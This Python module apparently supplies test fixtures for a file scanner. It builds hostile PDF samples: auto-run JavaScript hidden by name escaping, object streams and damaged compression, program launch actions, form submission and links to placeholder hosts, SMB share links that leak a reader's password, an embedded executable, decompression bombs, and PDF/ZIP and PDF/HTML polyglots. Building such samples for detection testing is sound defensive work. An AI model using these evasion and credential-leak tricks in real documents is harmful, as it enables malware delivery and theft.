"""Attacks in PDF: what runs, fetches, hides, bursts, or is something else as well."""

import zlib

from tests import evidence_sample as e
from tests.hostile.git import BOX

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def _pdf(content: bytes) -> dict:
    return {f"{BOX}/lampiran.pdf": content}


def pdf_script() -> dict:
    return _pdf(e.pdf(SCRIPT, catalogue=b"/OpenAction 5 0 R"))


def pdf_script_spelled() -> dict:
    """Every letter of a name may be written as a number."""
    return _pdf(e.pdf(b"<< /S /J#61va#53cr#69pt /JS (x) >>", catalogue=b"/Open#41ction 5 0 R"))


def pdf_script_packed() -> dict:
    """In an object stream, where no plain search sees it."""
    return _pdf(e.pdf(e.packed_objects(SCRIPT)))


def pdf_script_packed_and_damaged() -> dict:
    """The packed bytes end in a fault; forgiving readers take what came before."""
    told = b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"
    packed = zlib.compress(b"50 0 " + SCRIPT)
    return _pdf(e.pdf(e.stream(packed[:-6] + b"\xff" * 40, told)))


def pdf_script_in_remark() -> dict:
    """Where a table of places points into a comment, some reader finds an object."""
    return _pdf(e.pdf(b"<< /A 1 >> % 9 0 obj " + SCRIPT))


def pdf_script_in_false_stream() -> dict:
    """A string that says «stream» hides nothing."""
    return _pdf(e.pdf(b"<< /A (stream\n) /B " + SCRIPT + b" /C (\nendstream) >>"))


def pdf_script_after_end() -> dict:
    """A second version of the document, appended as signing programs do."""
    return _pdf(e.pdf() + b"9 0 obj\n" + SCRIPT + b"\nendobj\nstartxref\n0\n%%EOF\n")


def pdf_starts_program() -> dict:
    return _pdf(e.pdf(b"<< /S /Launch /F (a.exe) >>"))


def pdf_runs_on_page() -> dict:
    return _pdf(e.pdf(page=b"/AA << /O << /S /GoTo >> >>"))


def pdf_form_of_xml() -> dict:
    return _pdf(e.pdf(e.flate(b"<xdp/>"), catalogue=b"/AcroForm << /XFA 5 0 R >>"))


def pdf_media() -> dict:
    return _pdf(e.pdf(b"<< /Type /Annot /Subtype /RichMedia >>"))


def pdf_sends_form() -> dict:
    return _pdf(e.pdf(b"<< /S /SubmitForm /F (https://contoh.invalid/) >>"))


def pdf_opens_address() -> dict:
    """The address is opened without a click."""
    return _pdf(e.pdf(b"<< /S /URI /URI (https://contoh.invalid/) >>", catalogue=b"/OpenAction 5 0 R"))


def pdf_stream_elsewhere() -> dict:
    return _pdf(e.pdf(e.stream(b"", b"/F (\\\\\\\\203.0.113.1\\\\a) /FFilter /FlateDecode")))


def pdf_link_to_file() -> dict:
    return _pdf(e.pdf(b"<< /S /URI /URI (file:///C:/a.exe) >>"))


def pdf_link_spelled() -> dict:
    """«javascript:» in octal numbers."""
    return _pdf(e.pdf(b"<< /S /URI /URI (\\152avascript:alert\\(1\\)) >>"))


def pdf_link_in_numbers() -> dict:
    return _pdf(e.pdf(b"<< /S /URI /URI <FEFF" + "smb://203.0.113.1/a".encode("utf-16-be").hex().encode() + b"> >>"))


def pdf_link_to_share() -> dict:
    """Another document in a shared folder: opening it sends the reader's password."""
    return _pdf(e.pdf(b"<< /S /GoToR /F (\\\\\\\\203.0.113.1\\\\a) /D [0 /Fit] >>"))


def pdf_locked() -> dict:
    return _pdf(e.pdf(b"<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>", trailer=b"/Encrypt 5 0 R"))


def pdf_attached() -> dict:
    return _pdf(e.pdf(e.flate(b"nilai,1\n", b"/Type /EmbeddedFile"), b"<< /Type /Filespec /F (a.csv) /EF << /F 5 0 R >> >>"))


def pdf_attached_program() -> dict:
    """It calls itself an archive with data, and the data is a program."""
    papers = e.stream(b"<?xpacket?><pdfaid:part>3</pdfaid:part>", b"/Type /Metadata")
    return _pdf(e.pdf(e.flate(b"MZ\x90\0" + b"\0" * 90, b"/Type /EmbeddedFile"), papers, b"<< /AFRelationship /Data /EF << /F 5 0 R >> >>"))


def pdf_many_pages() -> dict:
    return _pdf(e.pdf(b"<< /Type /Pages /Count 2000000000 >>"))


def pdf_bomb() -> dict:
    """A picture of one page that unpacks to more than a page can have."""
    return _pdf(e.pdf(e.flate(b"\0" * 140_000_000, b"/Subtype /Image")))


def pdf_bomb_of_objects() -> dict:
    return _pdf(e.pdf(e.packed_objects(b"<< /A (" + b"A" * 20_000_000 + b") >>")))


def pdf_many_streams() -> dict:
    return _pdf(e.pdf(b"\n".join([b"stream"] * 70_000)))


def pdf_packed_twice() -> dict:
    return _pdf(e.pdf(e.stream(zlib.compress(zlib.compress(b"x" * 1000)), b"/Filter [/FlateDecode /Fl]")))


def pdf_objects_in_hexadecimal() -> dict:
    """Objects packed in a way that nobody uses for them, but readers take."""
    return _pdf(e.pdf(e.packed_objects(SCRIPT, wrap=lambda data: data.hex().encode() + b">", about=b"/Filter /ASCIIHexDecode")))


def pdf_objects_as_picture() -> dict:
    """Packed as pixels are: each line as the difference to the one above."""
    about = b"/Subtype /Image /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>"

    def rows(data: bytes) -> bytes:
        lines = [data[n : n + 4].ljust(4) for n in range(0, len(data), 4)]
        above = [b"\0" * 4, *lines]
        return zlib.compress(
            b"".join(b"\2" + bytes((a - b) & 255 for a, b in zip(line, up, strict=True)) for line, up in zip(lines, above, strict=False))
        )

    return _pdf(e.pdf(e.packed_objects(SCRIPT, wrap=rows, about=about)))


def pdf_cut() -> dict:
    return _pdf(e.pdf()[:-60])


def pdf_tail() -> dict:
    return _pdf(e.pdf() + b"rahasia " * 20)


def pdf_and_zip() -> dict:
    """A scan to the one, an archive to the other."""
    return _pdf(e.pdf()[:-6] + e.zipped(("a.txt", b"x")) + b"\n%%EOF\n")


def pdf_and_page() -> dict:
    return _pdf(e.pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1))
